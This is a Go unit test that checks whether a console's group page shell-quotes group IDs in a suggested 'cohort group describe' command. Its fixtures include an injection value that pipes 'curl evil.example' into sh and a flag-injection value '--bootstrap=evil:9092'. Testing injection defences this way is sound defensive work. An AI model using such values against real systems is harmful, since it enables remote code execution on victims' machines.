package console

import (
	"strings"
	"testing"
)

// TestSuggestedCommandQuotesTheGroupID: the command the group page gives
// for listing every member of a big group names the group as one shell
// word. Before, the id went in as it was (HTML-escaped only): a group named
// "x; curl evil.example | sh" had the page suggest a command line that,
// pasted into a shell, ran a second command, and an id starting with '-'
// was read by cohort as a flag.
func TestSuggestedCommandQuotesTheGroupID(t *testing.T) {
	c := New(nil, nil, nil)
	for id, want := range map[string]string{
		"x; curl evil.example | sh": `<code>cohort group describe &#39;x; curl evil.example | sh&#39;</code>`,
		"--bootstrap=evil:9092":     `<code>cohort group describe -- --bootstrap=evil:9092</code>`,
		"plain":                     `<code>cohort group describe plain</code>`,
	} {
		g := &GroupDetail{GroupRow: GroupRow{ID: id, State: "Stable", Type: "classic", Members: 600}, Members: []Member{{ID: "m-1"}}, MembersOmitted: 599}
		var b strings.Builder
		if err := c.tmpl["group"].Execute(&b, pageData{Title: "Group", Body: struct {
			G         *GroupDetail
			OffsetErr string
		}{G: g}}); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), want) {
			i := strings.Index(b.String(), `id="members-omitted"`)
			t.Errorf("group %q: the page lacks %s:\n%s", id, want, b.String()[max(i, 0):min(max(i, 0)+300, b.Len())])
		}
	}
}
